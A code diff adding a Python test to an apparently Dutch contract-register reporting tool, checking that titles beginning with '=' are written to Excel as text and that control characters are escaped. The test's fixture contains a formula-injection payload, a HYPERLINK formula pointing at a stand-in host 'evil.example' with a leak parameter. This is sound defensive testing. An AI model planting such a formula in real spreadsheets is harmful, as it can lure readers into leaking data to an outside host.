@@ -71,3 +71,18 @@ def test_demo_workspace_holds_a_register_of_two_organisations_over_three_years(i
     shares = [summarise(records, CountingRule(), y).region.figures(None)["share_value"] for y in (2023, 2024, 2025)]
     assert 0 < shares[0] < shares[1] < shares[2] < 1  # rising, as a trainer would tell it
     assert any(r.override for r in records) and any(not r.physical for r in records)
+
+
+def test_xlsx_writes_hostile_titles_as_text(tmp_path: Path) -> None:
+    """A contract title '=HYPERLINK(...)' became a live link in the report, and a control character in a title made
+    writing the report fail (issue 18): every title is text, shown as written, the control character escaped."""
+    link = '=HYPERLINK("http://evil.example/?leak=1","Klik hier")'
+    hostile = [rec("=Gemeente X", 100_000, [REQ], title=link), rec("Gemeente X", 50_000, [REQ], title="Bel\x07 mij")]
+    out = write_xlsx(summarise(hostile, CountingRule(), 2025), hostile, tmp_path / "rapport.xlsx")
+    detail = openpyxl.load_workbook(out)["Registraties"]
+    cells = {c.value: c for row in detail.iter_rows(min_row=2) for c in row[:2]}
+    assert cells[link].data_type == "s" and cells[link].quotePrefix
+    assert cells["=Gemeente X"].data_type == "s"
+    assert "Bel\\x07 mij" in cells
+    overview = openpyxl.load_workbook(out)["Overzicht"]
+    assert all(c.data_type != "f" for row in overview.iter_rows() for c in row)
